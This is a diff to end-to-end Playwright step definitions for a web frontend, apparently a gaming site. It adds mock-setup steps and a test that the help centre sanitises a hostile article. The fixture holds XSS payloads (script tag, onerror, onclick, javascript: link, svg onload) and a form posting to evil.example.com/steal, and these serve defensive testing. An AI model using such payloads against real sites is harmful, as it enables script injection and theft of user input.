@@ -1,5 +1,6 @@
 import { expect, type Locator, type Page } from '@playwright/test';
-import { Then, When } from '../support/fixtures';
+import { Given, Then, When } from '../support/fixtures';
+import { watchForHostileScript } from './notices.steps';
 
 const list = (text: string) => text.split(',').map((s) => s.trim()).filter(Boolean);
 
@@ -207,4 +208,95 @@ Then('the download page has the install guide {string} with the steps {string}',
   const items = region.getByRole('listitem');
   const expected = steps.split('|').map((s) => s.trim());
   await expect(items).toHaveText(expected);
+});
+
+// ---- what the mock serves: vendor lanes, resources, help articles ----
+
+Given('the game category {string} has no vendors', async ({ mock }, code: string) => {
+  await mock.patch({ vendorLanes: { emptied: [code] } });
+});
+
+Given('the server leaves out the game category {string}', async ({ mock }, code: string) => {
+  await mock.patch({ vendorLanes: { drop: [code] } });
+});
+
+Given('the site offers no resources', async ({ mock }) => {
+  await mock.patch({ resources: { replace: [] } });
+});
+
+Given('the site offers only the resources {string}', async ({ mock }, types: string) => {
+  const keep = new Set(list(types));
+  const all = ['Android', 'MOBILECONFIG', 'TELEGRAM', 'FACEBOOK', 'INSTAGRAM', 'SpeedTest', 'AFFILIATELINK'];
+  await mock.patch({ resources: { drop: all.filter((t) => !keep.has(t)) } });
+});
+
+Then('the side menu does not link {string}', async ({ page }, name: string) => {
+  await expect(sideMenu(page).getByRole('link', { name: 'Home', exact: true })).toBeVisible();
+  await expect(sideMenu(page).getByRole('link', { name, exact: true })).toHaveCount(0);
+});
+
+Then('the side menu has no social links', async ({ page }) => {
+  await expect(sideMenu(page).getByRole('link', { name: 'Home', exact: true })).toBeVisible();
+  await expect(sideMenu(page).getByRole('list', { name: 'Follow us', exact: true })).toHaveCount(0);
+});
+
+Then('the side menu does not show the QR code {string}', async ({ page }, name: string) => {
+  await expect(sideMenu(page).getByRole('img', { name: /QR code/ }).first()).toBeVisible();
+  await expect(sideMenu(page).getByRole('img', { name, exact: true })).toHaveCount(0);
+});
+
+Then('the side menu says {string}', async ({ page }, text: string) => {
+  await expect(sideMenu(page).getByText(text, { exact: true })).toBeVisible();
+});
+
+Then('the service widget does not offer {string}', async ({ page }, name: string) => {
+  await expect(widget(page).getByRole('link', { name: 'App download', exact: true })).toBeVisible();
+  await expect(widget(page).getByRole('link', { name, exact: true })).toHaveCount(0);
+});
+
+// ---- a hostile help article ----
+
+Given('the help centre serves a hostile article', async ({ page, mock, memo }) => {
+  await mock.patch({
+    helpCenter: [
+      {
+        id: 1,
+        title: 'Hostile article',
+        content:
+          `<p>Safe text</p><script>alert('xss-help-script')</script>` +
+          `<img src="/cdn-a/none.png" onerror="alert('xss-help-onerror')">` +
+          `<p onclick="alert('xss-help-click')">Tap to see the rules</p>` +
+          `<a href="javascript:alert('xss-help-link')">click here</a>` +
+          `<a href="https://example.com/ok">good link</a>` +
+          `<iframe src="https://evil.example.com/frame"></iframe>` +
+          `<svg onload="alert('xss-help-svg')"><circle r="4"/></svg>` +
+          `<form action="https://evil.example.com/steal"><input name="p"><button>Send</button></form>`,
+        category: 'policy',
+      },
+    ],
+  });
+  watchForHostileScript(page, memo);
+});
+
+When('I click what the help article offers', async ({ page }) => {
+  const article = page.getByRole('article', { name: 'Hostile article', exact: true });
+  await expect(article.getByText('Safe text', { exact: true })).toBeVisible();
+  await article.getByText('click here', { exact: true }).click();
+  await article.getByText('Tap to see the rules', { exact: true }).click();
+});
+
+Then('the help article ran no script and keeps its safe parts', async ({ page, memo }) => {
+  const article = page.getByRole('article', { name: 'Hostile article', exact: true });
+  await expect(article.getByRole('link', { name: 'good link', exact: true })).toHaveAttribute('href', 'https://example.com/ok');
+  await expect(article.getByRole('link', { name: 'good link', exact: true })).toHaveAttribute('rel', 'noopener noreferrer');
+  const active = await article.evaluate((el) => ({
+    elements: el.querySelectorAll('script, iframe, svg, form, input, button, object, embed').length,
+    handlers: [...el.querySelectorAll('*')].filter((n) => [...n.attributes].some((a) => /^on/i.test(a.name))).length,
+    scriptLinks: [...el.querySelectorAll('[href], [src]')].filter((n) =>
+      /^\s*(javascript|data):/i.test(n.getAttribute('href') ?? n.getAttribute('src') ?? ''),
+    ).length,
+  }));
+  expect(active).toEqual({ elements: 0, handlers: 0, scriptLinks: 0 });
+  expect(memo.get('alerts')).toEqual([]);
+  expect(memo.get('strangers')).toEqual([]);
 });
